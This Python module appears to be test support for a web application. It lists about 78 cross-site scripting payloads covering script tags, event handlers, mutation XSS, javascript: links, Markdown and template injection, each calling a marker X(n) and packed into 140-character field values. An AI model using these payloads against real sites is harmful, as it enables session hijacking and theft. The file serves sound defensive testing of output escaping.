"""Values that would run a script wherever a page takes them for HTML; `X(n)` is what the tests listen for.

Each fits a Data field (140 signs). Where it comes to life says its sink:

html        put between tags as it is
attribute   put between the double quotes of an attribute
single      put between single quotes
href        put into the href of a link, which is then clicked
markdown    rendered as Markdown
template    rendered as one of the desk's own templates
"""

from __future__ import annotations

import json
from dataclasses import dataclass

DATA_LENGTH = 140
ELSEWHERE = "//xss.invalid"
_G = "data:"  # an image that never loads, without asking any server


@dataclass(frozen=True)
class Payload:
	"""One attack.

	Attributes:
		number: what it calls X with.
		kind: what it tries.
		text: the value.
		sink: where it comes to life, see above.
		alone: other text beside it would hide one of the two.
		click: it waits for somebody who clicks.
	"""

	number: int
	kind: str
	text: str
	sink: str = "html"
	alone: bool = False
	click: bool = False


# kind, text with @ for the call, what else holds
_TABLE: tuple[tuple[str, str, dict[str, object]], ...] = (
	("script", "<script>@</script>", {}),
	("script, mixed case", "<ScRiPt >@</sCrIpT >", {}),
	("script from elsewhere", f"<script src={ELSEWHERE}/#.js></script>", {}),
	("script with a data address", "<script src=data:text/javascript,@></script>", {}),
	("script module", '<script type="module">@</script>', {}),
	("script in a broken tag", "<script/x>@</script>", {}),
	("script after a comment's end", "--><script>@</script>", {}),
	("script after a title's end", "</title><script>@</script>", {}),
	("script after a text area's end", "</textarea><script>@</script>", {}),
	("script after a style's end", "</style><script>@</script>", {}),
	("script in svg", "<svg><script>@</script></svg>", {}),
	("script in svg with entities", "<svg><script>&#88;(#)</script></svg>", {}),
	("image that fails", f"<img src={_G} onerror=@>", {}),
	("image, slashes for spaces", f'<img/src="{_G}"/onerror=@>', {}),
	("image, quotes that do not match", f'<img """><img src={_G} onerror="@">', {}),
	("image, code as entities", f"<img src={_G} onerror=&#x58;(#)>", {}),
	("image, escaped code", f"<img src={_G} onerror=\\u0058(#)>", {}),
	("image, line break in the tag", f"<img\nsrc={_G}\nonerror\n=\n@>", {}),
	("image, form feed in the tag", f"<img\x0csrc={_G}\x0conerror=@>", {}),
	("image, backquotes", f"<img src=`x` srcset={_G} onerror=@>", {}),
	("image named picture", f"<picture><source srcset={_G}><img onerror=@></picture>", {}),
	("image, old name", f"<image src={_G} onerror=@>", {}),
	("image, no end of the tag", f"<img src={_G} onerror=@ x=", {"alone": True}),
	("doubled bracket", f"<<img src={_G} onerror=@>", {}),
	("svg", "<svg onload=@>", {}),
	("svg, slash", "<svg/onload=@//>", {}),
	("svg animation begins", "<svg><animate onbegin=@ attributeName=x dur=1s></svg>", {}),
	("svg set begins", "<svg><set onbegin=@ attributeName=x dur=1s></svg>", {}),
	("svg picture fails", f"<svg><image href={_G} onerror=@></svg>", {}),
	("svg link", "<svg><a xlink:href=javascript:@><text y=9>x</text></a></svg>", {"click": True}),
	("foreign object", f"<svg><foreignObject><img src={_G} onerror=@></foreignObject></svg>", {}),
	("iframe with text", '<iframe srcdoc="<script>parent.@</script>"></iframe>', {}),
	("iframe with text as entities", "<iframe srcdoc='&lt;svg onload=parent.@&gt;'></iframe>", {}),
	("iframe with a script address", "<iframe src=javascript:parent.@></iframe>", {}),
	("iframe that loads", "<iframe onload=@></iframe>", {}),
	("object that fails", f"<object data={_G} onerror=@></object>", {}),
	("input that fails", f"<input type=image src={_G} onerror=@>", {}),
	("video that fails", f"<video src={_G} onerror=@></video>", {}),
	("video's source fails", f"<video><source src={_G} onerror=@></video>", {}),
	("audio that fails", f"<audio src={_G} onerror=@></audio>", {}),
	("style sheet that fails", f"<link rel=stylesheet href={_G} onerror=@>", {}),
	("style that loads", "<style onload=@></style>", {}),
	(
		"animation begins",
		"<style>@keyframes k{}</style><b style=animation:k onanimationstart=@>",
		{"alone": True},
	),
	("details open", "<details open ontoggle=@>x</details>", {}),
	("focus by itself", "<input autofocus onfocus=@>", {"alone": True}),
	("focus of a text area", "<textarea autofocus onfocus=@></textarea>", {"alone": True}),
	("focus of an unknown element", "<xss id=x tabindex=1 autofocus onfocus=@>x</xss>", {"alone": True}),
	("body loads", "<body onload=@>", {}),
	("script address in a link", "<a href=javascript:@>x</a>", {"click": True}),
	("script address, tab in it", '<a href="java\tscript:@">x</a>', {"click": True}),
	("script address, entities in it", '<a href="&#1;javascript&colon;@">x</a>', {"click": True}),
	("button of a form", "<form><button formaction=javascript:@>x</button></form>", {"click": True}),
	("form's address", "<form action=javascript:@><button>x</button></form>", {"click": True}),
	("click anywhere", '<b onclick=@ style="position:fixed;inset:0">x</b>', {"click": True}),
	("mXSS by math", "<math><mtext></p><style><!--</style><img src onerror=@>", {"alone": True}),
	("mXSS by noscript", '<noscript><p title="</noscript><svg onload=@>">', {"alone": True}),
	("mXSS by svg style", '<svg></p><style><a id="</style><img src onerror=@>">', {"alone": True}),
	(
		"template element",
		f"<template shadowrootmode=open><img src={_G} onerror=@></template>",
		{"alone": True},
	),
	("JSON list", f'["<img src={_G} onerror=@>"]', {"alone": True}),
	("JSON object", '{"a": "<svg onload=@>"}', {"alone": True}),
	("JSON text", '"<svg onload=@><script>@</script>"', {"alone": True}),
	("JSON list of links", '[{"label": "<iframe srcdoc=\'<svg onload=parent.@>\'>"}]', {"alone": True}),
	("Vietnamese around it", f"Nguyễn Văn <img src={_G} onerror=@> Đặng", {}),
	("unseen signs", f"\u200b\u202e<img src={_G} onerror=@>\u202c\ufeff", {}),
	("e-mail display name", '"<svg onload=@>" <a@example.com>', {}),
	("file name", f"báo giá<img src={_G} onerror=@>.pdf", {}),
	("out of double quotes", '" autofocus onfocus=@ x="', {"sink": "attribute", "alone": True}),
	("out of a tag", '"><svg onload=@>', {"sink": "attribute"}),
	("out of single quotes", "' autofocus onfocus=@ x='", {"sink": "single", "alone": True}),
	("script address", "javascript:@", {"sink": "href", "alone": True, "click": True}),
	(
		"script address as a web site",
		"javascript://example.com/%0a@",
		{"sink": "href", "alone": True, "click": True},
	),
	("entities written twice", f"&lt;img src={_G} onerror=@&gt;", {"sink": "markdown", "alone": True}),
	("Markdown link", "[x](javascript:@)", {"sink": "markdown", "click": True, "alone": True}),
	("Markdown image", '![x](x"onerror="@)', {"sink": "markdown", "alone": True}),
	("Markdown with HTML", f"**x** <img src={_G} onerror=@>", {"sink": "markdown"}),
	("template", "{{ @ }}", {"sink": "template", "alone": True}),
	("template code", "{% @; %}", {"sink": "template", "alone": True}),
	("template in a text", "${@}{{@}}<%= @ %>", {"sink": "template", "alone": True}),
)
PAYLOADS = tuple(
	Payload(
		number,
		kind,
		text.replace("@keyframes", "\0")
		.replace("@example", "\1")
		.replace("@", f"X({number})")
		.replace("#.js", f"{number}.js")
		.replace("(#)", f"({number})")
		.replace("\0", "@keyframes")
		.replace("\1", "@example"),
		**more,
	)
	for number, (kind, text, more) in enumerate(_TABLE, start=1)
)


def values() -> list[tuple[str, tuple[Payload, ...]]]:
	"""Return as few values as hold all payloads: those that do not get in each other's way stand side by side."""
	found: list[tuple[str, tuple[Payload, ...]]] = []
	text, held = "", []
	for payload in PAYLOADS:
		if payload.alone or payload.sink != "html":
			found.append((payload.text, (payload,)))
			continue
		if len(text) + len(payload.text) > DATA_LENGTH:
			found.append((text, tuple(held)))
			text, held = "", []
		text += payload.text
		held.append(payload)
	if held:
		found.append((text, tuple(held)))
	return found


def as_json(texts: list[str]) -> str:
	"""Return a JSON list of texts, which the framework does not look into."""
	return json.dumps(texts, ensure_ascii=False)
